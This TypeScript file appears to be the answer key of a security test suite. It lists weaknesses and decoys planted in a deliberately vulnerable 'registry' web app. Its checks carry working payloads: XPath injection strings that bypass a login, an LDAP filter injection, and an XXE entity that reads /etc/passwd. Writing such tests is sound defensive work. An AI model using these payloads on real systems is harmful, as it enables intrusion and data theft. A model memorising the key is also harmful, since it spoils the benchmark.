import { listModule, trap, weakness } from '../listed.ts'
import { isUnlimited, q } from './payloads.ts'

const entity =
  '<!DOCTYPE list [<!ENTITY e SYSTEM "file:///etc/passwd">]><list><person><name>&e;</name></person></list>'

export const registryList = listModule('registry', [
  weakness(['xpath-injection', 'GET /registry/find', 'surname', 'a part of the path'], async ({ get }) => {
    const { text } = await get(`/registry/find?surname=${q("x' or '1'='1")}`)
    return text.includes('12') && text.includes('14')
  }),
  weakness(
    ['xpath-injection', 'POST /registry/login', 'clerk', 'a sign-in that is passed by'],
    async ({ post }) =>
      (await post('/registry/login', { clerk: "Greta' or '1'='2", pin: '1' })).text.includes('Welcome'),
  ),
  weakness(['rate-limit', 'POST /registry/login', 'pin', 'as often as wanted'], (visitor) =>
    isUnlimited(visitor, '/registry/login', { clerk: 'Greta', pin: '0' }),
  ),
  trap(['xpath-injection', 'POST /registry/login', 'pin', 'digits only'], async ({ post }) =>
    (await post('/registry/login', { clerk: 'Greta', pin: "x' or '1'='1" })).text.includes('Welcome'),
  ),
  weakness(['ldap-injection', 'GET /registry/staff', 'uid', 'a part of the filter'], async ({ get }) => {
    const [yes, no] = ['41*', '99*'].map((salary) => `/registry/staff?uid=${q(`ines)(salary=${salary}`)}`)
    return (
      (await get(yes ?? '')).text.includes('room 101') && !(await get(no ?? '')).text.includes('room 101')
    )
  }),
  weakness(['xxe', 'POST /registry/import', 'xml', 'entities are read, in a form'], async ({ post }) =>
    (await post('/registry/import', { xml: entity })).text.includes('root:'),
  ),
  weakness(['xxe', 'POST /registry/api', '', 'entities are read, in a body of XML'], async ({ send }) =>
    (
      await send('POST /registry/api', { body: entity, headers: { 'content-type': 'application/xml' } })
    ).text.includes('root:'),
  ),
  trap(['xpath-injection', 'GET /registry/plot', 'number', 'compared, without a path'], async ({ get }) =>
    (await get(`/registry/plot?number=${q("x' or '1'='1")}`)).text.includes('Greta'),
  ),
  trap(['ldap-injection', 'GET /registry/room', 'room', 'escaped'], async ({ get }) =>
    (await get('/registry/room?room=*')).text.includes('room 101'),
  ),
  trap(['xxe', 'POST /registry/validate', 'xml', 'entities stay as they are'], async ({ post }) =>
    (await post('/registry/validate', { xml: entity })).text.includes('root:'),
  ),
])
